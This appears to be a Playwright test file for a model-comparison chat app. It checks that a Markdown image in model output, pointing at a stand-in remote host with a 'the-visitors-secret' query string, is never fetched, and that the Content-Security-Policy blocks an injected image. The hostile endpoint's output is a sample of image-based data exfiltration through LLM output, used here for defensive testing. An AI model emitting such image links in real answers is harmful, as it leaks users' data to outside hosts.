"""Model output cannot phone home, in a real chromium against the real
daphne server: a hostile endpoint (the vLLM stand-in behind two contenders)
answers with a Markdown image on another host, played by a real HTTP
server on another loopback port, which must receive no request. The
Content-Security-Policy is also checked on its own, as the second line,
and must not break the battle: it streams, votes and reveals."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest
from playwright.sync_api import ConsoleMessage, Page, expect

from inference.models import Contender, Endpoint, Engine
from tests.conftest import ARTIFACTS, TINY
from tests.e2e.test_browser import ask, bot, wait_both_done, wait_connected
from tests.inference.servers import VLLMStandIn

pytestmark = [pytest.mark.django_db(transaction=True), pytest.mark.browser]

# A 1x1 transparent PNG: what an exfiltrating image would serve.
PIXEL = bytes.fromhex(
    "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c489"
    "0000000d49444154789c6360000002000154a24f5d0000000049454e44ae426082"
)


@dataclass
class RemoteHost:
    """Another origin (same loopback, another port): every request it gets."""

    url: str = ""
    requests: list[str] = field(default_factory=list)


@pytest.fixture
def remote_host() -> Iterator[RemoteHost]:
    host = RemoteHost()

    class Handler(BaseHTTPRequestHandler):
        def log_message(self, format: str, *args: Any) -> None:
            return

        def do_GET(self) -> None:
            host.requests.append(self.path)
            self.send_response(200)
            self.send_header("content-type", "image/png")
            self.send_header("content-length", str(len(PIXEL)))
            self.end_headers()
            self.wfile.write(PIXEL)

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    server.daemon_threads = True
    host.url = f"http://127.0.0.1:{server.server_address[1]}"
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield host
    server.shutdown()
    server.server_close()


@pytest.fixture
def hostile_endpoint(remote_host: RemoteHost) -> Iterator[VLLMStandIn]:
    """Two contenders on a server whose answers carry a remote image."""
    standin = VLLMStandIn()
    standin.behaviour.words = [
        "Here",
        "is",
        "the",
        "chart:",
        f"![chart]({remote_host.url}/leak.png?q=the-visitors-secret)",
    ]
    endpoint = Endpoint.objects.create(
        name="hostile", kind=Endpoint.Kind.OPENAI, base_url=standin.url
    )
    for name in ("mirror-a", "mirror-b"):
        Contender.objects.create(
            name=name,
            engine=Engine.OPENAI,
            endpoint=endpoint,
            model=standin.behaviour.base,
            params=TINY,
        )
    yield standin
    standin.stop()


def _csp_reports(page: Page) -> list[str]:
    reports: list[str] = []

    def on_console(message: ConsoleMessage) -> None:
        if "Content Security Policy" in message.text:
            reports.append(message.text)

    page.on("console", on_console)
    return reports


def test_a_remote_image_in_model_output_is_never_fetched_and_the_battle_still_runs(
    page: Page,
    page_errors: list[str],
    remote_host: RemoteHost,
    hostile_endpoint: VLLMStandIn,
) -> None:
    reports = _csp_reports(page)
    page.goto("/")
    wait_connected(page)  # the websocket connected under connect-src 'self'
    ask(page, "Show me a chart of what I just told you.")
    wait_both_done(page)
    for side in ("a", "b"):
        expect(bot(page, side)).to_contain_text("Here is the chart: chart")
        assert bot(page, side).locator("img").count() == 0
    page.click('[data-vote="a"]')
    expect(page.locator("#reveal")).to_be_visible()
    expect(page.locator("#reveal")).to_contain_text("mirror-")
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    page.screenshot(path=ARTIFACTS / "battle-remote-image.png", full_page=True)
    page.wait_for_timeout(500)  # time for any late image request to arrive
    assert hostile_endpoint.behaviour.requests  # the model really answered with it
    assert remote_host.requests == []
    assert reports == []  # nothing the page does is refused by its own policy
    assert page_errors == []


# Resolves with the violated directive once the policy refuses something.
INJECT_IMAGE = """(src) => new Promise((resolve) => {
  document.addEventListener("securitypolicyviolation",
    (e) => resolve(e.effectiveDirective + " " + e.blockedURI), {once: true});
  const img = document.createElement("img");
  img.src = src;
  document.body.appendChild(img);
  setTimeout(() => resolve("no violation"), 5000);
})"""


def test_the_policy_alone_stops_an_image_that_got_past_the_sanitiser(
    page: Page, remote_host: RemoteHost
) -> None:
    page.goto("/")
    wait_connected(page)
    verdict = page.evaluate(INJECT_IMAGE, f"{remote_host.url}/past-the-sanitiser.png")
    assert verdict.startswith("img-src " + remote_host.url)
    page.wait_for_timeout(300)
    assert remote_host.requests == []
